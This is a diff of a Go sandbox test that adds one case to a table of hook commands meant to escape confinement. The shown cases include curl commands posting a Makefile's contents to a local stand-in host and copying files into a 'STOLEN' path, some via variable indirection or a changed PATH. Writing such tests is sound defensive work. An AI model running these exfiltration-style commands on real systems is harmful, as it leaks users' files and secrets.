@@ -95,6 +95,7 @@ func TestHooksOutsideTheSandbox(t *testing.T) {
 		"data of a file":         {`"command":"echo x >HOME/STOLEN; curl -s -d @Makefile http://127.0.0.1:1"`, false},
 		"data":                   {`"command":"echo x >HOME/STOLEN; curl -s -u a@b:c --data-urlencode text=me@home http://127.0.0.1:1 || true"`, true},
 		"dates of a file":        {`"command":"date -f Makefile 2>HOME/STOLEN"`, false},
+		"file of a variable":     {`"command":"f=Makefile; cat \"$f\" >HOME/STOLEN"`, false},
 		"changed path":           {`"command":"PATH=.:$PATH; jq"`, false},
 	} {
 		t.Run(name, func(t *testing.T) {
